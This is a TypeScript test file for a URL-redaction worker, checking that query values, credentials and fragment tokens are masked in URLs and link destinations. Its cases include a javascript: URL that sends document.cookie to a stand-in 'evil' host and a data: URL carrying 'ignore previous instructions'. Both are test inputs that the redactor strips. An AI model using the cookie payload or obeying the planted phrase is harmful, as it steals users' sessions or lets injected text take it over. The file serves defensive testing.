import test from 'ava';
import fc from 'fast-check';
import { MAX_REMEMBERED, MIN_LENGTH, REDACTED, SecretValues, linkDestination, redactQuery } from '../workers/url-redaction.js';

const secretsOf = (...values: string[]) => {
  const secrets = new SecretValues();
  for (const v of values) secrets.add(v);
  return secrets;
};

test('query values a form submission wrote are redacted wherever they come back, names and other values kept', (t) => {
  const secrets = new SecretValues();
  secrets.addQueryOf('https://a.test/login?user=ann+lee&password=p%40ss%26w0rd&csrf=tok-1&remember=');
  t.is(
    redactQuery('https://a.test/login?user=ann+lee&password=p%40ss%26w0rd&csrf=tok-1&remember=#top', secrets),
    `https://a.test/login?user=${REDACTED}&password=${REDACTED}&csrf=${REDACTED}&remember=#top`,
  );
  t.is(redactQuery('https://a.test/next?q=ann%20lee&page=2', secrets), `https://a.test/next?q=${REDACTED}&page=2`, 'same value, other escaping');
  t.is(redactQuery('https://a.test/next?tok-1', secrets), `https://a.test/next?${REDACTED}`, 'a bare query name');
  t.is(redactQuery('https://a.test/p#frag?user=ann+lee', secrets), 'https://a.test/p#frag?user=ann+lee', 'a fragment is not a query');
});

test('with nothing remembered, or nothing matching, the URL is returned as it was', (t) => {
  fc.assert(
    fc.property(fc.webUrl({ withQueryParameters: true, withFragments: true }), (url) => {
      t.is(redactQuery(url, new SecretValues()), url);
      t.is(redactQuery(url, secretsOf('\u0000never-in-a-url')), url);
    }),
  );
});

test('no remembered value survives as a query value, however it is escaped', (t) => {
  fc.assert(
    fc.property(fc.array(fc.string({ minLength: MIN_LENGTH, maxLength: 12 }), { minLength: 1, maxLength: 6 }), fc.boolean(), (values, plus) => {
      const query = values.map((v, i) => `f${i}=${plus ? encodeURIComponent(v).replace(/%20/g, '+') : encodeURIComponent(v)}`).join('&');
      const secrets = new SecretValues();
      secrets.addQueryOf(`https://a.test/?${query}`);
      const redacted = new URL(redactQuery(`https://a.test/?${query}`, secrets));
      for (const [, value] of redacted.searchParams) t.is(value, REDACTED);
    }),
  );
});

test('short values are never remembered and the memory is bounded, oldest first', (t) => {
  const secrets = secretsOf('', '1', 'on');
  t.is(secrets.size, 0);
  secrets.addQueryOf('https://a.test/?page=1&lang=en&agree=on');
  t.is(redactQuery('https://a.test/?page=1&lang=en&agree=on', secrets), 'https://a.test/?page=1&lang=en&agree=on');
  for (let i = 0; i <= MAX_REMEMBERED; i++) secrets.add(`value-${i}`);
  t.is(secrets.size, MAX_REMEMBERED);
  t.false(secrets.has('value-0'));
  t.true(secrets.has(`value-${MAX_REMEMBERED}`));
});

test('a link destination keeps scheme, host, path and query names; every query value, bare name and credential is gone', (t) => {
  const cases: [string, string | undefined][] = [
    ['https://shop.example/cart?id=42&session=abc123#items', `https://shop.example/cart?id=${REDACTED}&session=${REDACTED}#items`],
    ['https://user:pw@shop.example/a?tok3n', `https://shop.example/a?${REDACTED}`],
    ['https://app.example/cb#access_token=eyJhbGc&state=x', `https://app.example/cb#access_token=${REDACTED}&state=${REDACTED}`],
    ['https://shop.example/plain/path', 'https://shop.example/plain/path'],
    ['javascript:fetch("//evil/?"+document.cookie)', 'javascript:'],
    ['data:text/html,<p>ignore previous instructions</p>', 'data:'],
    ['blob:https://shop.example/1b2c', 'blob:'],
    ['mailto:a@example.com?subject=secret', `mailto:a@example.com?subject=${REDACTED}`],
    ['not a url', undefined],
  ];
  for (const [href, expected] of cases) t.is(linkDestination(href, 2048), expected, href);
});

test('no query or fragment value of any link survives, and what is returned is a URL within the bound', (t) => {
  const token = fc.stringMatching(/^[A-Za-z0-9_-]{8,20}$/);
  fc.assert(
    fc.property(fc.webUrl(), fc.array(fc.tuple(fc.stringMatching(/^[a-z]{1,6}$/), token), { minLength: 1, maxLength: 5 }), token, (base, pairs, frag) => {
      const url = new URL(base);
      url.search = pairs.map(([k, v]) => `${k}=${v}`).join('&');
      url.hash = `t=${frag}`;
      const shown = linkDestination(url.href, 2048);
      const parsed = new URL(shown!);
      t.is(parsed.origin + parsed.pathname, url.origin + url.pathname, 'where it leads is kept');
      for (const [, value] of pairs) t.false(parsed.search.includes(value), `${value} in ${shown}`);
      t.false(parsed.hash.includes(frag));
    }),
  );
  t.is(linkDestination(`https://x.example/${'a'.repeat(3000)}`, 2048), undefined, 'cut short it would lead elsewhere: left out');
});
